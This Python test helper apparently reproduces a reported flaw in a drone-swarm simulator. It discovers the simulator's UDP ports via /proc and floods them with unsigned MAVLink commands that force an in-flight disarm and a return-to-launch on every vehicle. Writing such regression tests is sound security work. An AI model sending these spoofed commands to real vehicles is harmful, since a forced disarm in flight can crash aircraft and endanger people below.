"""A stranger commanding a running simulator's vehicles, as issue 31 found one could: it learns
the simulator's vehicle ports the way anyone on the host can (the process's UDP sockets, as
``ss -ulpn`` shows them) and sends unsigned COMMAND_LONGs to every one of them: a forced
ARM_DISARM (disarm in flight) and DO_SET_MODE RTL, to every vehicle (target system 0).

Linux only (/proc). Reached from every test folder as ``import vehicle_spoofer``."""

from __future__ import annotations

import os

os.environ.setdefault("MAVLINK20", "1")

import re  # noqa: E402
import socket  # noqa: E402
import threading  # noqa: E402
import time  # noqa: E402
from pathlib import Path  # noqa: E402

from pymavlink.dialects.v20 import ardupilotmega as ml  # noqa: E402

FORCE_DISARM = 21196  # MAV_CMD_COMPONENT_ARM_DISARM param2: disarm even in flight
RTL = 11  # ArduPlane's RTL custom mode
STRANGER = 77  # a system id no vehicle or ground station of the mission uses


def child_pids(pid: int) -> list[int]:
    """The processes whose parent is ``pid``."""
    children = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            text = stat.read_text()
        except OSError:
            continue
        fields = text[text.rfind(")") + 2 :].split()
        if int(fields[1]) == pid:
            children.append(int(stat.parent.name))
    return children


def swarmplan_sim_pid(parent: int, timeout_s: float) -> int | None:
    """The ``swarmplan sim`` child of ``parent`` (a demo), once it runs."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        for pid in child_pids(parent):
            try:
                if b"\0swarmplan\0sim\0" in Path(f"/proc/{pid}/cmdline").read_bytes():
                    return pid
            except OSError:
                continue
        time.sleep(0.05)
    return None


def udp_ports(pid: int) -> list[int]:
    """The local ports of the IPv4 UDP sockets process ``pid`` holds."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = []
    for line in Path("/proc/net/udp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[9] in inodes:
            ports.append(int(fields[1].split(":")[1], 16))
    return sorted(ports)


def running(pid: int) -> bool:
    """Process ``pid`` exists and has not exited (a zombie has)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def simulator_ports(pid: int, log: Path, timeout_s: float) -> list[int]:
    """The UDP ports of simulator ``pid`` once it has said its start line in ``log`` (``sim: N
    vehicles ...``: its vehicles' sockets are bound by then)."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        text = log.read_text(errors="replace") if log.exists() else ""
        started = re.search(r"^sim: \d+ vehicles", text, re.M)
        if not running(pid):
            raise AssertionError(f"the simulator (pid {pid}) exited: {text[-500:]}")
        if started:
            return udp_ports(pid)
        time.sleep(0.05)
    raise AssertionError(f"the simulator (pid {pid}) did not start within {timeout_s:g} s")


class DisarmSpoofer(threading.Thread):
    """Every ``period_s``: an unsigned forced disarm and an RTL mode change to every port of
    simulator ``pid``, while it runs (``sent`` counts only what it could have received)."""

    def __init__(self, pid: int, ports: list[int], period_s: float = 0.05) -> None:
        super().__init__(daemon=True, name="disarm-spoofer")
        self.pid = pid
        self.ports = ports
        self.period_s = period_s
        self.mav = ml.MAVLink(None, STRANGER, 190)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sent = 0
        self._halt = threading.Event()

    def frames(self) -> list[bytes]:
        commands = (
            (ml.MAV_CMD_COMPONENT_ARM_DISARM, 0, FORCE_DISARM),
            (ml.MAV_CMD_DO_SET_MODE, ml.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, RTL),
        )
        out = []
        for command, p1, p2 in commands:
            msg = ml.MAVLink_command_long_message(0, 0, command, 0, p1, p2, 0, 0, 0, 0, 0)
            out.append(bytes(msg.pack(self.mav)))
            self.mav.seq = (self.mav.seq + 1) % 256
        return out

    def run(self) -> None:
        while not self._halt.is_set() and running(self.pid):
            for port in self.ports:
                for frame in self.frames():
                    try:
                        self.sock.sendto(frame, ("127.0.0.1", port))
                        self.sent += 1
                    except OSError:
                        pass  # the simulator has gone (ICMP refused)
            self._halt.wait(self.period_s)

    def stop(self) -> None:
        self._halt.set()
        self.join(5)
        self.sock.close()
